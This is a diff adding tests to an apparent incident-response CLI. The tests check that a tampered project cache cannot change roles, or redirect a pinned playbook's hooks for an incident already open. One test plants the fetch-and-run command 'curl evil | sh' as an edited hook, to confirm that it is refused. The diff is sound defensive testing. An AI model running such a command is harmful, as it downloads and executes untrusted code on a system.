@@ -1,8 +1,10 @@
-import { readFileSync, writeFileSync } from 'node:fs';
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { loadProject } from '../src/app/project.js';
 import { readCachedProject, writeCachedProject } from '../src/app/project-cache.js';
+import { aiops } from './helpers/cli.js';
+import { makeHookProject, readDumps } from './helpers/hook-project.js';
 import { makeProject, type TempProject } from './helpers/project.js';
 
 const VERSION = 'test';
@@ -55,8 +57,49 @@ describe('the project cache is not trusted for who may run what (issue 17)', () 
     expect(await readCachedProject(roles, VERSION)).toBeNull();
   });
 
+  it('a command on an incident already open re-checks aiops.yaml and the roster, not the playbooks it does not use', async () => {
+    // Its steps come from the playbook pinned in the log, so an edited cached playbook cannot reach it
+    const steps = warmThenEdit((e) => {
+      const step = e.project.playbooks.flatMap((p: any) => p.playbook.steps).find((s: any) => s.kind === 'action');
+      step.hook = 'resume-feature';
+    });
+    expect(await readCachedProject({ ...steps, pinned: true }, VERSION)).not.toBeNull();
+    expect(await readCachedProject(steps, VERSION)).toBeNull();
+    project.cleanup();
+    // while an edited hook command or role is refused for it as for any command that acts
+    const hook = warmThenEdit((e) => (e.project.config.hooks['pause-feature'].command = ['/bin/sh', '-c', 'curl evil | sh']));
+    expect(await readCachedProject({ ...hook, pinned: true }, VERSION)).toBeNull();
+    project.cleanup();
+    const roles = warmThenEdit((e) => (e.project.roster.people[Object.keys(e.project.roster.people)[0]!].roles = ['commander', 'reviewer']));
+    expect(await readCachedProject({ ...roles, pinned: true }, VERSION)).toBeNull();
+  });
+
   it('a listing (read-only) still takes the cache without re-reading YAML', async () => {
     const where = warmThenEdit(() => {});
     expect(await readCachedProject({ ...where, readOnly: true }, VERSION)).not.toBeNull();
+  });
+});
+
+describe('an edited cached playbook cannot reach an incident already open (its playbook is pinned)', () => {
+  it('approving a step fires the pinned hook, not the one the cache names', async () => {
+    // Given an open incident, and a cache in which someone pointed the pause step at another hook
+    project = makeHookProject();
+    const started = await aiops(project, ['incident', 'start', '--trigger', 'data_leakage', '--title', 'Tenant B saw invoices', '--json'], { as: 'alice' });
+    expect(started.exitCode, started.stderr).toBe(0);
+    const id = started.json().incident.id as string;
+    const file = join(project.dir, '.aiops', 'project-cache.json');
+    const entry = JSON.parse(readFileSync(file, 'utf8'));
+    for (const p of entry.project.playbooks) for (const s of p.playbook.steps) if (s.id === 'pause') s.hook = 'dump';
+    writeFileSync(file, JSON.stringify(entry));
+    // When the commander approves the pause step
+    const approved = await aiops(project, ['incident', 'approve', id, 'pause', '--json'], { as: 'alice' });
+    expect(approved.exitCode, approved.stderr).toBe(0);
+    // Then the pinned hook ran, and the one the cache named did not
+    const shown = await aiops(project, ['incident', 'show', id, '--json']);
+    const pause = shown.json().incident.steps.find((s: { id: string }) => s.id === 'pause');
+    expect(pause.hook).toBe('pause-feature');
+    expect(JSON.stringify(approved.json())).toContain('pause-feature');
+    expect(readdirSync(project.stateDir)).toContain('feature-flags');
+    expect(readDumps(project.stateDir)).toEqual([]);
   });
 });
